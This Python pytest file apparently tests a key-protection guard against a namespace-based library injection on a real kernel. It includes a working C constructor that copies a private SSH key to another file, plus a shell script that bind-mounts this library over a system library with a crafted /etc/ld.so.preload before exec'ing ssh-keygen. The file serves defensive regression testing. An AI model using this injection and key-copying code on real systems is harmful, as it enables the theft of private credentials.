"""Hole 2 of issue 9: no library injection through a user and mount namespace (real kernel,
a temporary home owned by an unprivileged user, who is the attacker).

The attack: `unshare -Urm`, bind-mount a library of one's own over a system library path and a
private /etc whose ld.so.preload names that path, then exec the real /usr/bin/ssh-keygen. On the
old code it was auto-allowed (catalogue, verified, no flags: /proc/PID/maps showed a system
path) and the injected constructor copied the key."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from fluxtui.guard.events import GuardDecision
from fluxtui.guard.namespaces import namespace_problems
from tests.guard_support import (
    NOBODY,
    SSH_KEYGEN,
    as_user,
    guard_config,
    require_guard_kernel,
    run,
    running_guard,
    user_home,
    wait_for,
)
from tests.kernel import require

pytestmark = pytest.mark.kernel

# A package-owned library that ssh-keygen does not load: the bind mount's target.
TARGET = "/usr/lib/x86_64-linux-gnu/libbz2.so.1.0.4"
EVIL_C = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void steal(void) {
    int in = open(KEY, O_RDONLY);
    if (in < 0) return;
    int out = open(OUT, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    char buf[8192];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
}
"""
ATTACK = """
set -e
mount --bind "$WORK/evil.so" "$TARGET"
mkdir -p "$WORK/etc"
cp -r /etc/. "$WORK/etc/" 2>/dev/null || true
echo "$TARGET" > "$WORK/etc/ld.so.preload"
mount --bind "$WORK/etc" /etc
exec /usr/bin/ssh-keygen -y -f "$KEY"
"""


def _build_evil(work: Path, key: Path, out: Path) -> Path:
    require(shutil.which("gcc") is not None, "gcc missing (apt-get install gcc)")
    require(os.path.exists(TARGET), f"{TARGET} missing (apt-get install libbz2-1.0)")
    source = work / "evil.c"
    source.write_text(EVIL_C)
    library = work / "evil.so"
    built = run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source),
                 f'-DKEY="{key}"', f'-DOUT="{out}"'])
    assert built.returncode == 0, built.stderr
    return library


def _attack(work: Path, key: Path) -> tuple[int, bytes]:
    result = as_user(["unshare", "-Urm", "sh", "-c", ATTACK], timeout=60,
                     env={"WORK": str(work), "TARGET": TARGET, "KEY": str(key),
                          "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
    return result.returncode, result.stdout + result.stderr


def test_library_injection_through_a_user_and_mount_namespace_is_refused(
        tmp_path: Path) -> None:
    require_guard_kernel()
    require(shutil.which("unshare") is not None, "unshare missing (util-linux)")
    with user_home() as home:
        work = home.root / "work"
        work.mkdir()
        os.chown(work, NOBODY, NOBODY)
        stolen = work / "stolen"
        library = _build_evil(work, home.key, stolen)
        os.chown(library, NOBODY, NOBODY)
        probe = as_user(["unshare", "-Urm", "true"])
        require(probe.returncode == 0, f"unprivileged user namespaces are off: {probe.stderr!r}")
        config = guard_config(home, tmp_path / "state")
        with running_guard(config) as (guard, events):
            code, output = _attack(work, home.key)

            def decision() -> GuardDecision | None:
                guard.flush()
                return next((e for e in events if isinstance(e, GuardDecision)), None)

            first = wait_for(decision)
        key_bytes = home.key.read_bytes()
        assert not stolen.exists() or key_bytes not in stolen.read_bytes()
        assert code != 0, output  # ssh-keygen itself was refused too
    assert not first.allowed and first.requester.exe == SSH_KEYGEN
    flags = " ".join(first.requester.flags)
    assert "runs in another user namespace" in flags
    assert f"{TARGET} is not the file at that path for init" in flags
    assert f"its /etc/ld.so.preload loads {TARGET}" in flags


def test_a_process_in_a_namespace_that_maps_only_inits_files_is_not_flagged() -> None:
    require_guard_kernel()
    require(shutil.which("unshare") is not None, "unshare missing (util-linux)")
    # A private mount namespace that changes nothing: the same files at the same paths.
    with running_process(["unshare", "-m", "sleep", "30"]) as pid:
        assert namespace_problems(pid, "runs in another mount namespace") == ()


def test_an_allowed_reader_in_a_plain_namespace_is_still_allowed(tmp_path: Path) -> None:
    require_guard_kernel()
    with user_home() as home:
        probe = as_user(["unshare", "-Urm", "true"])
        require(probe.returncode == 0, f"unprivileged user namespaces are off: {probe.stderr!r}")
        with running_guard(guard_config(home, tmp_path / "state")):
            keygen = as_user(["unshare", "-Urm", SSH_KEYGEN, "-y", "-f", str(home.key)])
        assert keygen.returncode == 0, keygen.stderr
        assert home.pub.read_bytes().split(b" ")[1] in keygen.stdout


class running_process:
    def __init__(self, argv: list[str]) -> None:
        self.argv = argv

    def __enter__(self) -> int:
        import subprocess
        self.proc = subprocess.Popen(self.argv)
        wait_for(lambda: _exe_of(self.proc.pid) == "/usr/bin/sleep")
        return self.proc.pid

    def __exit__(self, *exc: object) -> None:
        self.proc.kill()
        self.proc.wait(timeout=10)


def _exe_of(pid: int) -> str:
    try:
        return os.readlink(f"/proc/{pid}/exe")
    except OSError:
        return ""


def test_devices_that_cannot_be_compared_are_not_auto_allowed(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """On btrfs subvolumes (and overlays) the device /proc/PID/maps reports is not the one the
    file's stat reports: the (device, inode) comparison would mean nothing, so it is a flag."""
    import fluxtui.guard.namespaces as namespaces

    real = namespaces._mappings

    def other_device(maps: bytes) -> dict[str, tuple[str, int]]:
        return {path: (area, device + 1) for path, (area, device) in real(maps).items()}

    monkeypatch.setattr(namespaces, "_mappings", other_device)
    problems = namespace_problems(os.getpid(), "runs in another mount namespace", init_root="")
    assert problems and all("cannot be compared" in p for p in problems)


def test_a_fifo_as_ld_so_preload_is_a_flag_and_does_not_block(tmp_path: Path) -> None:
    require_guard_kernel()
    require(shutil.which("unshare") is not None, "unshare missing (util-linux)")
    with user_home() as home:
        work = home.root / "work"
        work.mkdir()
        os.chown(work, NOBODY, NOBODY)
        script = ('set -e; mkdir -p "$W/etc"; cp -r /etc/. "$W/etc/" 2>/dev/null || true; '
                  'rm -f "$W/etc/ld.so.preload"; mkfifo "$W/etc/ld.so.preload"; '
                  'mount --bind "$W/etc" /etc; exec sleep 30')
        with running_process_as_user(["unshare", "-Urm", "sh", "-c", script],
                                     {"W": str(work), "PATH": "/usr/bin:/bin"}) as pid:
            problems = namespace_problems(pid, "runs in another user namespace")
    assert "runs in another user namespace: its /etc/ld.so.preload is not a regular file" \
        in problems


class running_process_as_user:
    def __init__(self, argv: list[str], env: dict[str, str]) -> None:
        self.argv = argv
        self.env = env

    def __enter__(self) -> int:
        import subprocess
        self.proc = subprocess.Popen(self.argv, user=NOBODY, group=NOBODY, extra_groups=[],
                                     cwd="/", env=self.env, start_new_session=True)
        # The sleep runs in the namespaces once sh has exec'd it (same pid).
        wait_for(lambda: _exe_of(self.proc.pid) == "/usr/bin/sleep", timeout=30)
        return self.proc.pid

    def __exit__(self, *exc: object) -> None:
        self.proc.kill()
        self.proc.wait(timeout=10)


def test_every_mapping_of_a_live_process_is_checked_including_non_pie_ones() -> None:
    """This interpreter maps its executable at a fixed low address (maps pads the range to 8
    digits, map_files does not): every one of its files matches itself."""
    assert namespace_problems(os.getpid(), "runs in another mount namespace", init_root="") == ()
